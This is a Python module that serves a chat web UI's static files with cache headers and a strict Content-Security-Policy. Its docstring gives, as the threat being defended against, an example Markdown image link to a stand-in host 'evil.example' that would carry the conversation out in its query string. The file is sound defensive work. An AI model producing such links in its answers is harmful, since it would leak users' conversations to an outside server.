"""The built web UI (frontend/dist, made by `make frontend`) as static files.

index.html names the current hashed bundles, so it is always revalidated (no-cache); the hashed
files under assets/ never change under their name and are cached for a year (immutable).

Every file goes with a Content-Security-Policy: the page runs only its own scripts and loads
images only from this server (its uploads), data: and blob: URLs (the user's own attachments),
and talks to no other server. A model's answer is untrusted Markdown: an answer made to show
`![](https://evil.example/?q=the+conversation)` must not send the conversation away, and no
remote script may run in the page. Inline styles stay allowed (KaTeX sets them; they run no
code and load nothing: url() in a style is held to img-src and font-src).
"""

from __future__ import annotations

import logging
from pathlib import Path

from fastapi.staticfiles import StaticFiles
from starlette.responses import Response
from starlette.types import Scope

log = logging.getLogger(__name__)

UI_DIR = Path(__file__).resolve().parents[3] / "frontend" / "dist"
IMMUTABLE = "public, max-age=31536000, immutable"
CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data: blob:",
        "font-src 'self' data:",
        "media-src 'self' data: blob:",
        "connect-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'self'",
    ]
)


class UIFiles(StaticFiles):
    async def get_response(self, path: str, scope: Scope) -> Response:
        if path == "favicon.ico":  # browsers ask for it whatever the page links
            path = "favicon.svg"
        response = await super().get_response(path, scope)
        if response.status_code < 400:
            hashed = path.startswith("assets/")
            response.headers["Cache-Control"] = IMMUTABLE if hashed else "no-cache"
        response.headers["Content-Security-Policy"] = CONTENT_SECURITY_POLICY
        return response


def built_ui(directory: Path = UI_DIR) -> UIFiles | None:
    """The UI's files, or None (and a log line: the server then serves the API only) when the
    UI is not built."""
    if not (directory / "index.html").is_file():
        log.warning(
            "web UI not built (%s missing): serving the API only; `make frontend` builds it",
            directory / "index.html",
        )
        return None
    return UIFiles(directory=directory, html=True)
